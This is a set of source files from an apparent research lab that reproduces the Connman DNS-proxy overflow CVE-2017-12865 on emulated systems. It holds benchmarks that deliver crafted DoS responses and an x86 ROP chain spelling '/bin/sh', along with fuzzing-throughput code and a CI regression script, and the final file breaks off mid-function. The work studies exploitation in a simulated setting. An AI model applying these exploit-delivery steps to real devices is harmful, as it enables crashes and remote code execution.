    for (const fleet::SurvivalPoint& p : curve.value()) {
      json.Number("fleet_fraction_b" + std::to_string(p.diversity_bits),
                  p.compromised_fraction);
    }
    char digest[32];
    std::snprintf(digest, sizeof(digest), "%016" PRIx64,
                  fleet::CurveDigest(curve.value()));
    json.String("fleet_curve_digest", digest);
    json.WriteFile(json_path);
    return 0;  // CI smoke mode: skip the microbenchmark phase
  }

  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
