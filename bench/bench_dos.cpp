// E1 — the DoS baseline (paper §III intro): a crafted Type A response
// crashes Connman 1.34 and bounces off 1.35, on both architectures.
// Table: outcome per (arch, version, expansion size).
// Timing: response handling cost, benign vs malicious.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/attack/campaign.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

connman::ProxyOutcome Deliver(isa::Arch arch, connman::Version version,
                              std::size_t expansion) {
  auto sys = loader::Boot(arch, loader::ProtectionConfig::None(), 1).value();
  connman::DnsProxy proxy(*sys, version);
  dns::Message query = dns::Message::Query(0x42, "victim.example");
  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
  auto labels = dns::JunkLabels(expansion);
  auto evil = dns::MaliciousAResponse(query, labels.value());
  return proxy.HandleServerResponse(dns::Encode(evil).value());
}

void PrintTable() {
  std::printf("== E1: DoS baseline — outcome per (arch, version, name expansion) ==\n");
  std::printf("%-6s %-18s %8s  %s\n", "arch", "version", "bytes", "outcome");
  std::printf("%s\n", std::string(60, '-').c_str());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (connman::Version version :
         {connman::Version::k134, connman::Version::k135}) {
      for (std::size_t size : {512u, 1022u, 2048u, 4096u}) {
        auto outcome = Deliver(arch, version, size);
        std::printf("%-6s %-18s %8zu  %s\n",
                    std::string(isa::ArchName(arch)).c_str(),
                    std::string(connman::VersionName(version)).c_str(), size,
                    std::string(connman::OutcomeKindName(outcome.kind)).c_str());
      }
    }
  }
  std::printf("\nExpected shape: 1.34 crashes once expansion overruns the\n"
              "stack; 1.35 rejects everything past the 1024-byte buffer and\n"
              "keeps running. (CVE-2017-12865)\n\n");

  // Availability under a sustained DoS campaign (supervisor restarts the
  // crashed daemon; each restart loses 3 lookups).
  std::printf("== E1b: availability under DoS campaign (200 lookups) ==\n");
  std::printf("%-18s %12s %8s %8s %12s\n", "version", "attack rate",
              "crashes", "lost", "availability");
  std::printf("%s\n", std::string(64, '-').c_str());
  for (connman::Version version :
       {connman::Version::k134, connman::Version::k135}) {
    for (int every_n : {0, 20, 10, 5}) {
      attack::CampaignConfig config;
      config.version = version;
      config.total_lookups = 200;
      config.attack_every_n = every_n;
      auto result = attack::RunDosCampaign(config);
      if (!result.ok()) continue;
      char rate[24];
      if (every_n == 0) {
        std::snprintf(rate, sizeof(rate), "none");
      } else {
        std::snprintf(rate, sizeof(rate), "1/%d", every_n);
      }
      std::printf("%-18s %12s %8d %8d %11.1f%%\n",
                  std::string(connman::VersionName(version)).c_str(), rate,
                  result.value().crashes,
                  result.value().lookups_lost_downtime,
                  100.0 * result.value().availability());
    }
  }
  std::printf("\nExpected shape: on 1.34 availability degrades with attack\n"
              "rate (each crash costs the downtime window); on 1.35 only the\n"
              "attacked lookups themselves fail — the daemon never dies.\n\n");
}

void BM_BenignResponse(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  auto sys = loader::Boot(arch, loader::ProtectionConfig::None(), 1).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "host.example");
    auto fwd = proxy.AcceptClientQuery(dns::Encode(query).value());
    benchmark::DoNotOptimize(fwd);
    dns::Message response = dns::Message::ResponseFor(query);
    response.answers.push_back(dns::MakeA("host.example", "1.2.3.4"));
    auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BenignResponse)->Arg(0)->Arg(1);

void BM_DosResponse(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  auto sys = loader::Boot(arch, loader::ProtectionConfig::None(), 1).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  auto labels = dns::JunkLabels(4096).value();
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "victim.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    auto evil = dns::MaliciousAResponse(query, labels);
    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DosResponse)->Arg(0)->Arg(1);

void BM_PatchedRejection(benchmark::State& state) {
  auto sys = loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::None(), 1)
                 .value();
  connman::DnsProxy proxy(*sys, connman::Version::k135);
  auto labels = dns::JunkLabels(4096).value();
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "victim.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    auto evil = dns::MaliciousAResponse(query, labels);
    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_PatchedRejection);

}  // namespace

int main(int argc, char** argv) {
  PrintTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
