// E5 — the x86 memcpy ROP chain (Listings 3 & 4): per-character chain cost
// and the string-length sweep (x86 has no clobber, so long chains work).
// Timing: build + delivery per string length.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <cstring>

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/profile.hpp"
#include "src/exploit/rop_x86.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

exploit::TargetProfile Profile() {
  static exploit::TargetProfile cached = [] {
    auto sys =
        loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 100)
            .value();
    connman::DnsProxy proxy(*sys, connman::Version::k134);
    exploit::ProfileExtractor extractor(*sys, proxy);
    return extractor.Extract().value();
  }();
  return cached;
}

connman::ProxyOutcome Fire(const dns::PayloadImage& image) {
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 4242)
          .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  dns::Message query = dns::Message::Query(0x7E57, "victim.example");
  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
  auto labels = dns::CutIntoLabels(image).value();
  auto evil = dns::MaliciousAResponse(query, labels);
  return proxy.HandleServerResponse(dns::Encode(evil).value());
}

void PrintStringSweep() {
  exploit::TargetProfile profile = Profile();
  std::printf("== E5: x86 memcpy-chain string sweep (paper §III-C1) ==\n");
  std::printf("%-10s %8s %8s %8s  %s\n", "string", "memcpys", "bytes",
              "labels", "outcome");
  std::printf("%s\n", std::string(60, '-').c_str());
  for (const char* s : {"sh", "/bin/sh", "/bin/bash"}) {
    auto image = exploit::BuildRopX86(profile, s);
    if (!image.ok()) {
      std::printf("%-10s %8zu %8s %8s  build failed: %s\n", s, strlen(s), "-",
                  "-", image.status().message().c_str());
      continue;
    }
    auto labels = dns::CutIntoLabels(image.value());
    auto outcome = Fire(image.value());
    std::printf("%-10s %8zu %8zu %8zu  %s\n", s, strlen(s),
                image.value().size(),
                labels.ok() ? labels.value().size() : 0,
                outcome.ToString().c_str());
  }
  std::printf("\nExpected shape: every \"/bin/sh\"-buildable length works on\n"
              "x86 (no chain clobber there). \"/bin/bash\" fails at build\n"
              "time: the extracted profile only maps source addresses for\n"
              "the characters of \"/bin/sh\" — the --memstr step constrains\n"
              "what strings a chain can spell, exactly as in real exploits.\n\n");
}

void BM_BuildX86Chain(benchmark::State& state) {
  exploit::TargetProfile profile = Profile();
  const std::string str(static_cast<std::size_t>(state.range(0)), 's');
  for (auto _ : state) {
    auto image = exploit::BuildRopX86(profile, str);
    benchmark::DoNotOptimize(image);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BuildX86Chain)->Arg(2)->Arg(7)->Arg(16);

void BM_DeliverX86Chain(benchmark::State& state) {
  exploit::TargetProfile profile = Profile();
  auto image = exploit::BuildRopX86(profile, "/bin/sh").value();
  auto labels = dns::CutIntoLabels(image).value();
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 4242)
          .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "victim.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    auto evil = dns::MaliciousAResponse(query, labels);
    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DeliverX86Chain);

void BM_CutterOnChainImage(benchmark::State& state) {
  exploit::TargetProfile profile = Profile();
  auto image = exploit::BuildRopX86(profile, "/bin/sh").value();
  for (auto _ : state) {
    auto labels = dns::CutIntoLabels(image);
    benchmark::DoNotOptimize(labels);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CutterOnChainImage);

}  // namespace

int main(int argc, char** argv) {
  PrintStringSweep();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
