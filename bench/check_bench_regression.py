#!/usr/bin/env python3
"""CI bench-smoke regression tripwire.

Compares a freshly-measured bench JSON artifact against the committed
baseline and fails (exit 1) when a headline number regressed by more than
the threshold (default 30%). Throughput-style keys regress by dropping;
latency-style keys (microsecond costs) regress by rising.

Keys that exist only in the fresh artifact are ignored, so adding a new
metric never breaks the gate, and CI runners that legitimately differ from
the machine that produced the baseline have 30% of headroom before the
alarm sounds. The reverse is NOT ignored: a gated baseline key that is
missing from the fresh artifact fails the run — a renamed or deleted bench
silently dropping its measurement is exactly how a regression would sneak
past the tripwire.

Usage:
    check_bench_regression.py BASELINE.json FRESH.json [--threshold 0.30]
"""

import argparse
import json
import sys

# Bigger is better: steps/sec, execs/sec, speedup ratios (including the
# execs_per_sec_w{N} worker-scaling ladder, matched by prefix below — but
# NOT wall_execs_per_sec_w{N}, which is whatever the runner's core count
# delivered and is recorded for the log only). speedup_w8 is the parallel
# scaling headline: aggregate w8 over aggregate w1 throughput.
HIGHER_BETTER = {
    "speedup_w8",
    "rop_steps_per_sec",
    "rop_steps_per_sec_legacy",
    "rop_steps_per_sec_superblock",
    "rop_deliveries_per_sec",
    "loop_steps_per_sec",
    "loop_steps_per_sec_legacy",
    "loop_steps_per_sec_superblock",
    "rop_speedup",
    "loop_speedup",
    "superblock_speedup",
    "reboot_speedup",
    "dirty_restore_speedup",
    "execs_per_sec",
    "execs_per_sec_legacy",
    "execs_per_sec_heap",
    "speedup",
    "fleet_victims_per_sec",
}
HIGHER_BETTER_PREFIXES = ("execs_per_sec_w",)

# Smaller is better: absolute costs in microseconds.
LOWER_BETTER = {"boot_us", "restore_us", "restore_full_us"}

# Printed for the log but never gated: boot_us is allocator-bound and swings
# ~40% run-to-run on loaded runners, restore_us is sub-microsecond (timer
# noise dominates), and the ratios derived from them inherit the swing. The
# stable anchors — restore_full_us and every throughput key — carry the gate.
INFO_ONLY = {"boot_us", "restore_us", "dirty_restore_speedup", "reboot_speedup"}


def direction(key):
    if key in HIGHER_BETTER or key.startswith(HIGHER_BETTER_PREFIXES):
        return "higher"
    if key in LOWER_BETTER:
        return "lower"
    return None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline")
    parser.add_argument("fresh")
    parser.add_argument("--threshold", type=float, default=0.30,
                        help="allowed fractional regression (default 0.30)")
    args = parser.parse_args()

    with open(args.baseline) as f:
        baseline = json.load(f)
    with open(args.fresh) as f:
        fresh = json.load(f)

    checked = 0
    failures = []
    missing = []
    for key, base_value in sorted(baseline.items()):
        want = direction(key)
        if want is None:
            continue
        if key not in fresh:
            # A gated measurement vanished from the fresh artifact: warn and
            # fail rather than silently shrinking the gate's coverage.
            if key in INFO_ONLY:
                print(f"  [info] {key:32s} missing from fresh artifact")
            else:
                print(f"  [MISS] {key:32s} missing from fresh artifact")
                missing.append(key)
            continue
        new_value = fresh[key]
        if not isinstance(base_value, (int, float)) or isinstance(base_value, bool):
            continue
        if not isinstance(new_value, (int, float)) or isinstance(new_value, bool):
            continue
        if base_value <= 0:
            continue
        ratio = new_value / base_value
        if want == "higher":
            ok = ratio >= 1.0 - args.threshold
            verdict = f"{ratio:6.2%} of baseline"
        else:
            ok = ratio <= 1.0 + args.threshold
            verdict = f"{ratio:6.2%} of baseline (lower is better)"
        if key in INFO_ONLY:
            marker = "info"
        else:
            checked += 1
            marker = "ok  " if ok else "FAIL"
            if not ok:
                failures.append(key)
        print(f"  [{marker}] {key:32s} {base_value:14.4g} -> {new_value:14.4g}  {verdict}")

    if missing:
        print(f"\nbench regression: {len(missing)} gated baseline metric(s) "
              f"missing from the fresh artifact: {', '.join(missing)}",
              file=sys.stderr)
        return 1
    if checked == 0:
        print("error: no comparable keys between baseline and fresh artifact",
              file=sys.stderr)
        return 1
    if failures:
        print(f"\nbench regression: {len(failures)} metric(s) moved more than "
              f"{args.threshold:.0%} the wrong way: {', '.join(failures)}",
              file=sys.stderr)
        return 1
    print(f"\nall {checked} compared metrics within {args.threshold:.0%} of baseline")
    return 0


if __name__ == "__main__":
    sys.exit(main())
