#!/usr/bin/env python3
"""CI bench-smoke regression tripwire.

Compares a freshly-measured bench JSON artifact against the committed
baseline and fails (exit 1) when a headline number regressed by more than
the threshold (default 30%). Throughput-style keys regress by dropping;
latency-style keys (microsecond costs) regress by rising.

Gated keys must exist on BOTH sides. A gated baseline key missing from the
fresh artifact fails the run — a renamed or deleted bench silently dropping
its measurement is exactly how a regression would sneak past the tripwire.
A gated key present in the fresh artifact but absent from the baseline also
fails: it means a new headline metric was added without refreshing the
committed baseline, so the gate would never actually watch it. Ungated keys
(and INFO_ONLY ones) may come and go freely.

When $GITHUB_STEP_SUMMARY is set (GitHub Actions), the per-key delta table
(baseline, fresh, % of baseline, gate verdict) is also appended there as
markdown so the job summary shows the comparison without digging in logs.

Usage:
    check_bench_regression.py BASELINE.json FRESH.json [--threshold 0.30]
"""

import argparse
import json
import os
import sys

# Bigger is better: steps/sec, execs/sec, speedup ratios (including the
# execs_per_sec_w{N} worker-scaling ladder, matched by prefix below — but
# NOT wall_execs_per_sec_w{N}, which is whatever the runner's core count
# delivered and is recorded for the log only). speedup_w8 is the parallel
# scaling headline: aggregate w8 over aggregate w1 throughput.
HIGHER_BETTER = {
    "speedup_w8",
    "rop_steps_per_sec",
    "rop_steps_per_sec_legacy",
    "rop_steps_per_sec_superblock",
    "rop_steps_per_sec_linked",
    "rop_deliveries_per_sec",
    "loop_steps_per_sec",
    "loop_steps_per_sec_legacy",
    "loop_steps_per_sec_superblock",
    "rop_speedup",
    "loop_speedup",
    "superblock_speedup",
    "link_speedup",
    "reboot_speedup",
    "dirty_restore_speedup",
    "execs_per_sec",
    "execs_per_sec_legacy",
    "execs_per_sec_heap",
    "speedup",
    "fleet_victims_per_sec",
}
HIGHER_BETTER_PREFIXES = ("execs_per_sec_w",)

# Smaller is better: absolute costs in microseconds.
LOWER_BETTER = {"boot_us", "restore_us", "restore_full_us"}

# Printed for the log but never gated: boot_us is allocator-bound and swings
# ~40% run-to-run on loaded runners, restore_us is sub-microsecond (timer
# noise dominates), and the ratios derived from them inherit the swing.
# link_speedup divides two throughputs whose jitter is uncorrelated (the
# predecode-tier denominator swings ~50% with box load while the linked
# numerator barely moves), so the ratio spans ~1.5–2.5x across healthy runs;
# the absolute rop_steps_per_sec_linked key carries that gate instead. The
# stable anchors — restore_full_us and every throughput key — do the gating.
INFO_ONLY = {
    "boot_us",
    "restore_us",
    "dirty_restore_speedup",
    "reboot_speedup",
    "link_speedup",
}


def direction(key):
    if key in HIGHER_BETTER or key.startswith(HIGHER_BETTER_PREFIXES):
        return "higher"
    if key in LOWER_BETTER:
        return "lower"
    return None


def write_step_summary(rows, missing, stale, checked, failures, threshold):
    """Appends the delta table as markdown to $GITHUB_STEP_SUMMARY, if set."""
    path = os.environ.get("GITHUB_STEP_SUMMARY")
    if not path:
        return
    lines = ["### Bench regression check", ""]
    lines.append("| key | baseline | fresh | % of baseline | verdict |")
    lines.append("| --- | ---: | ---: | ---: | :---: |")
    for key, base_value, new_value, ratio, marker in rows:
        lines.append(
            f"| `{key}` | {base_value:.4g} | {new_value:.4g} "
            f"| {ratio:.1%} | {marker.strip()} |"
        )
    for key in missing:
        lines.append(f"| `{key}` | — | *missing* | — | MISS |")
    for key in stale:
        lines.append(f"| `{key}` | *missing* | — | — | STALE |")
    lines.append("")
    if missing or stale:
        lines.append(
            f"**FAIL** — gated keys out of sync between baseline and fresh "
            f"artifact (missing: {len(missing)}, not in baseline: {len(stale)})."
        )
    elif failures:
        lines.append(
            f"**FAIL** — {len(failures)} metric(s) moved more than "
            f"{threshold:.0%} the wrong way: {', '.join(failures)}."
        )
    else:
        lines.append(
            f"**OK** — all {checked} gated metrics within {threshold:.0%} "
            f"of baseline."
        )
    lines.append("")
    with open(path, "a") as f:
        f.write("\n".join(lines) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline")
    parser.add_argument("fresh")
    parser.add_argument("--threshold", type=float, default=0.30,
                        help="allowed fractional regression (default 0.30)")
    args = parser.parse_args()

    with open(args.baseline) as f:
        baseline = json.load(f)
    with open(args.fresh) as f:
        fresh = json.load(f)

    checked = 0
    rows = []
    failures = []
    missing = []
    for key, base_value in sorted(baseline.items()):
        want = direction(key)
        if want is None:
            continue
        if key not in fresh:
            # A gated measurement vanished from the fresh artifact: warn and
            # fail rather than silently shrinking the gate's coverage.
            if key in INFO_ONLY:
                print(f"  [info] {key:32s} missing from fresh artifact")
            else:
                print(f"  [MISS] {key:32s} missing from fresh artifact")
                missing.append(key)
            continue
        new_value = fresh[key]
        if not isinstance(base_value, (int, float)) or isinstance(base_value, bool):
            continue
        if not isinstance(new_value, (int, float)) or isinstance(new_value, bool):
            continue
        if base_value <= 0:
            continue
        ratio = new_value / base_value
        if want == "higher":
            ok = ratio >= 1.0 - args.threshold
            verdict = f"{ratio:6.2%} of baseline"
        else:
            ok = ratio <= 1.0 + args.threshold
            verdict = f"{ratio:6.2%} of baseline (lower is better)"
        if key in INFO_ONLY:
            marker = "info"
        else:
            checked += 1
            marker = "ok  " if ok else "FAIL"
            if not ok:
                failures.append(key)
        rows.append((key, base_value, new_value, ratio, marker))
        print(f"  [{marker}] {key:32s} {base_value:14.4g} -> {new_value:14.4g}  {verdict}")

    # The reverse direction: a gated key the fresh artifact measures but the
    # committed baseline never recorded. The gate would silently skip it
    # forever, so force the baseline refresh instead.
    stale = []
    for key in sorted(fresh):
        if key in baseline or direction(key) is None or key in INFO_ONLY:
            continue
        print(f"  [MISS] {key:32s} gated but absent from committed baseline")
        stale.append(key)

    write_step_summary(rows, missing, stale, checked, failures, args.threshold)

    if missing:
        print(f"\nbench regression: {len(missing)} gated baseline metric(s) "
              f"missing from the fresh artifact: {', '.join(missing)}",
              file=sys.stderr)
        return 1
    if stale:
        print(f"\nbench regression: {len(stale)} gated fresh metric(s) not in "
              f"the committed baseline (refresh it): {', '.join(stale)}",
              file=sys.stderr)
        return 1
    if checked == 0:
        print("error: no comparable keys between baseline and fresh artifact",
              file=sys.stderr)
        return 1
    if failures:
        print(f"\nbench regression: {len(failures)} metric(s) moved more than "
              f"{args.threshold:.0%} the wrong way: {', '.join(failures)}",
              file=sys.stderr)
        return 1
    print(f"\nall {checked} compared metrics within {args.threshold:.0%} of baseline")
    return 0


if __name__ == "__main__":
    sys.exit(main())
