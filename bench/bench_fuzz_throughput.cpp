// E11/E18 — fuzzing throughput: executions/second for the dnsproxy target,
// single- vs multi-worker, plus the determinism contract (identical root
// seed => identical merged coverage digest and crash buckets, regardless
// of worker scheduling).
//
// Ladder methodology (E18): every rung runs a fixed budget *per worker*
// (kExecsPerWorker each), so per-worker boot + seed-round fixed costs stay
// constant up the ladder instead of dominating an ever-thinner slice of a
// fixed total — the old split-20K-across-8 ladder could not show scaling
// even when it existed. Two throughput numbers per rung:
//
//   aggregate = sum over workers of (execs / worker thread-CPU seconds).
//     Thread-CPU time excludes scheduler wait and epoch-barrier blocking,
//     so this is the software-scalability number: what the campaign
//     sustains on a host with >= N unloaded cores. It is the honest answer
//     to "does the engine scale?" on a CI runner with fewer cores, where
//     wall-clock physically cannot exceed 1x. `host_concurrency` is
//     recorded alongside so readers can tell which regime produced the
//     artifact; on a host with >= N cores, aggregate ~= wall.
//   wall = execs / wall seconds — whatever this machine actually delivered.
//
// `--json[=path]` additionally writes BENCH_fuzz.json for CI, including the
// `execs_per_sec_w{1,2,4,8}` aggregate ladder, `wall_execs_per_sec_w{N}`,
// and the gated `speedup_w8` scaling ratio; `--workers N` restricts both
// the table and the ladder to a single worker count.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "bench/bench_json.hpp"
#include "src/fuzz/fuzzer.hpp"
#include "src/fuzz/mutator.hpp"

using namespace connlab;

namespace {

/// Fixed budget per worker: rung N executes N * this many inputs.
constexpr std::uint64_t kExecsPerWorker = 20000;

/// Strips `--workers N` / `--workers=N` from argv. Returns 0 when absent
/// (meaning: sweep the default 1/2/4/8 ladder).
std::size_t TakeWorkersFlag(int& argc, char** argv) {
  std::size_t workers = 0;
  int out = 1;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--workers" && i + 1 < argc) {
      workers = static_cast<std::size_t>(std::strtoul(argv[++i], nullptr, 10));
    } else if (arg.rfind("--workers=", 0) == 0) {
      workers = static_cast<std::size_t>(
          std::strtoul(arg.c_str() + sizeof("--workers=") - 1, nullptr, 10));
    } else {
      argv[out++] = argv[i];
    }
  }
  argc = out;
  return workers;
}

std::vector<std::size_t> WorkerSweep(std::size_t only) {
  if (only != 0) return {only};
  return {1, 2, 4, 8};
}

fuzz::FuzzConfig CampaignConfig(std::size_t workers, std::uint64_t execs) {
  fuzz::FuzzConfig config;
  config.target.kind = fuzz::TargetKind::kDnsproxy;
  config.seed = 42;
  config.max_execs = execs;
  config.workers = workers;
  config.minimize = false;
  return config;
}

/// The heap-class campaign: camstored execs carry allocator work (real
/// Alloc/Free walks in guest memory) on top of parsing, so this gauges the
/// guest-heap subsystem's cost, not just the HTTP front end.
fuzz::FuzzConfig HeapCampaignConfig(std::size_t workers, std::uint64_t execs) {
  fuzz::FuzzConfig config = CampaignConfig(workers, execs);
  config.target.kind = fuzz::TargetKind::kCamstored;
  return config;
}

/// One fixed-per-worker-budget ladder (see file comment for methodology).
void PrintLadder(const char* label, bool heap, std::size_t workers_flag) {
  std::printf("-- %s, %llu execs per worker --\n", label,
              static_cast<unsigned long long>(kExecsPerWorker));
  std::printf("%8s %10s %14s %9s %12s %8s  %s\n", "workers", "execs",
              "aggregate/sec", "speedup", "wall/sec", "buckets",
              "coverage digest");
  std::printf("%s\n", std::string(92, '-').c_str());
  double single = 0;
  for (const std::size_t workers : WorkerSweep(workers_flag)) {
    const std::uint64_t execs = kExecsPerWorker * workers;
    auto report =
        fuzz::Fuzzer(heap ? HeapCampaignConfig(workers, execs)
                          : CampaignConfig(workers, execs))
            .Run();
    if (!report.ok()) {
      std::printf("campaign failed: %s\n", report.status().ToString().c_str());
      return;
    }
    const fuzz::FuzzStats& s = report.value().stats;
    if (workers == 1) single = s.execs_per_sec_aggregate;
    std::printf("%8zu %10llu %14.0f %8.2fx %12.0f %8zu  %016llx\n", workers,
                static_cast<unsigned long long>(s.execs),
                s.execs_per_sec_aggregate,
                single > 0 ? s.execs_per_sec_aggregate / single : 0.0,
                s.execs_per_sec,
                report.value().triage.buckets().size(),
                static_cast<unsigned long long>(s.coverage_digest));
  }
  std::printf("\n");
}

void PrintTable(std::size_t workers_flag) {
  std::printf("== E11/E18: fuzzing throughput — seed 42 ==\n");
  std::printf("host concurrency: %u thread(s); aggregate = per-worker\n"
              "thread-CPU throughput (~= wall on an unloaded >=N-core host),\n"
              "wall = this machine's delivered rate\n\n",
              std::thread::hardware_concurrency());
  PrintLadder("dnsproxy (stack-smash class)", false, workers_flag);
  PrintLadder("camstored (heap class)", true, workers_flag);

  // Determinism: the same (seed, workers) pair must reproduce the exact
  // merged coverage and bucket set run after run — epoch-sync on.
  auto a = fuzz::Fuzzer(CampaignConfig(4, 8000)).Run();
  auto b = fuzz::Fuzzer(CampaignConfig(4, 8000)).Run();
  if (a.ok() && b.ok()) {
    const bool digests =
        a.value().stats.coverage_digest == b.value().stats.coverage_digest;
    const bool buckets =
        a.value().triage.buckets().size() == b.value().triage.buckets().size();
    std::printf("determinism (4 workers, two runs): digest %s, buckets %s\n\n",
                digests ? "identical" : "DIVERGED",
                buckets ? "identical" : "DIVERGED");
  }
}

void BM_ExecuteBenignSeed(benchmark::State& state) {
  fuzz::TargetConfig config;
  auto target = fuzz::MakeTarget(config).value();
  const auto seeds = target->SeedCorpus();
  fuzz::CoverageMap map;
  for (auto _ : state) {
    benchmark::DoNotOptimize(target->Execute(seeds[0], map));
  }
}
BENCHMARK(BM_ExecuteBenignSeed);

void BM_MutateDnsInput(benchmark::State& state) {
  fuzz::TargetConfig config;
  auto target = fuzz::MakeTarget(config).value();
  const auto seeds = target->SeedCorpus();
  fuzz::Mutator mutator(util::Rng(1));
  const fuzz::MutationHint hint{target->fixed_prefix(), true, 8192};
  util::Bytes scratch;
  for (auto _ : state) {
    mutator.MutateInto(seeds[0], hint, seeds[1], scratch);
    benchmark::DoNotOptimize(scratch);
  }
}
BENCHMARK(BM_MutateDnsInput);

void BM_Campaign(benchmark::State& state) {
  const std::size_t workers = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    auto report = fuzz::Fuzzer(CampaignConfig(workers, 2000)).Run();
    benchmark::DoNotOptimize(report);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) * 2000);
}
BENCHMARK(BM_Campaign)->Arg(1)->Arg(2)->Arg(4)->Unit(benchmark::kMillisecond);

/// Legacy vs fast VM mode on a 1-worker campaign: legacy = byte-copying
/// fetch/decode + full loader re-Boot per corruption; fast = predecode
/// cache + snapshot-restore reboots. Same seed, so the coverage digests
/// must match — the speedup is free only if behaviour is identical.
void CompareModes(const std::string& json_path, std::size_t workers_flag) {
  constexpr std::uint64_t kExecs = kExecsPerWorker;

  vm::Cpu::set_predecode_default(false);
  fuzz::FuzzConfig legacy_config = CampaignConfig(1, kExecs);
  legacy_config.target.fast_reset = false;
  auto legacy = fuzz::Fuzzer(legacy_config).Run();
  vm::Cpu::set_predecode_default(true);
  auto fast = fuzz::Fuzzer(CampaignConfig(1, kExecs)).Run();
  if (!legacy.ok() || !fast.ok()) {
    std::printf("mode comparison failed\n");
    return;
  }
  const fuzz::FuzzStats& ls = legacy.value().stats;
  const fuzz::FuzzStats& fs = fast.value().stats;
  const double speedup =
      ls.execs_per_sec > 0 ? fs.execs_per_sec / ls.execs_per_sec : 0;
  const bool digests_match = ls.coverage_digest == fs.coverage_digest;

  std::printf("== legacy vs fast VM mode — dnsproxy, 1 worker, seed 42 ==\n");
  std::printf("%-34s %12s %9s\n", "mode", "execs/sec", "reboots");
  std::printf("%s\n", std::string(58, '-').c_str());
  std::printf("%-34s %12.0f %9llu\n", "legacy (no cache, full re-Boot)",
              ls.execs_per_sec, static_cast<unsigned long long>(ls.reboots));
  std::printf("%-34s %12.0f %9llu\n", "fast (predecode + snapshot)",
              fs.execs_per_sec, static_cast<unsigned long long>(fs.reboots));
  std::printf("speedup: %.2fx, coverage digest %s\n\n", speedup,
              digests_match ? "identical" : "DIVERGED");

  auto heap = fuzz::Fuzzer(HeapCampaignConfig(1, kExecs)).Run();
  if (heap.ok()) {
    std::printf("heap-class campaign (camstored, 1 worker): %.0f execs/sec\n\n",
                heap.value().stats.execs_per_sec);
  }

  if (!json_path.empty()) {
    char digest[24];
    std::snprintf(digest, sizeof(digest), "%016llx",
                  static_cast<unsigned long long>(fs.coverage_digest));
    benchout::JsonWriter json;
    json.String("bench", "fuzz_throughput");
    json.String("target", "dnsproxy");
    json.Integer("execs", fs.execs);
    json.Number("execs_per_sec_legacy", ls.execs_per_sec);
    json.Number("execs_per_sec", fs.execs_per_sec);
    json.Number("speedup", speedup);
    json.Integer("reboots", fs.reboots);
    json.Bool("digest_matches_legacy", digests_match);
    json.String("coverage_digest", digest);
    if (heap.ok()) {
      json.Number("execs_per_sec_heap", heap.value().stats.execs_per_sec);
    }
    // The worker-scaling ladder: kExecsPerWorker per worker per rung (see
    // the file comment). `execs_per_sec_wN` is the thread-CPU aggregate —
    // the number the regression gate and the speedup_w8 ratio ride on —
    // and `wall_execs_per_sec_wN` records what this host's core count
    // actually delivered (prefix chosen so only the aggregate is gated).
    json.Integer("host_concurrency", std::thread::hardware_concurrency());
    double w1_aggregate = 0;
    double w8_aggregate = 0;
    for (const std::size_t w : WorkerSweep(workers_flag)) {
      auto scaled =
          fuzz::Fuzzer(CampaignConfig(w, kExecsPerWorker * w)).Run();
      if (!scaled.ok()) continue;
      const fuzz::FuzzStats& s = scaled.value().stats;
